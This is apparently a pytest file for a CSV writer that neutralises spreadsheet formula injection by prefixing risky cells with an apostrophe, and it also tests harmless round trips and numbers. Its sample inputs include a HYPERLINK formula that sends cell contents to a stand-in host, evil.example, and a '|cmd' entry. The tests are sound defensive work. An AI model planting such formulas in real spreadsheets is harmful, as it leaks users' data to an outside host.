"""CSV that no spreadsheet runs."""

import csv
import io
from pathlib import Path

import pytest

import yiwang
from yiwang.store.spreadsheets import guarded, read_back, writer

pytestmark = pytest.mark.engine_free
FORMULAS = (
    "=1+1",
    "+86 139",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    "＝1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1)",
    "|cmd",
    "\ufeff=1",
)  # fmt: skip


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_is_run(cell: str) -> None:
    """Given what a spreadsheet would run, when it is written, then an apostrophe stands before it, and comes off when read back."""
    file = io.StringIO(newline="")
    writer(file).row([cell])
    [[written]] = list(csv.reader(io.StringIO(file.getvalue(), newline="")))
    assert written == f"'{cell}"
    assert read_back(written) == cell


@pytest.mark.parametrize("cell", ["楼道灯不亮", "a=b", "1-2", "'90年代", "'", ""])
def test_what_is_harmless_comes_back_as_it_was(cell: str) -> None:
    """Given ordinary words, when written and read back, then they are the same."""
    assert read_back(guarded(cell)) == cell


def test_numbers_stay_numbers() -> None:
    """Given a number below zero, when written, then it is no text."""
    file = io.StringIO(newline="")
    writer(file).row([-5, 2.5, None])
    assert file.getvalue() == "-5,2.5,\r\n"


def test_there_is_one_writer() -> None:
    """Given the whole program, then nothing else writes CSV."""
    house = Path(yiwang.__file__).parent
    others = [str(path.relative_to(house)) for path in house.rglob("*.py") if "csv.writer" in path.read_text()]
    others += [str(path.relative_to(house)) for path in house.rglob("*.py") if "DictWriter" in path.read_text()]
    assert others == ["store/spreadsheets.py"]
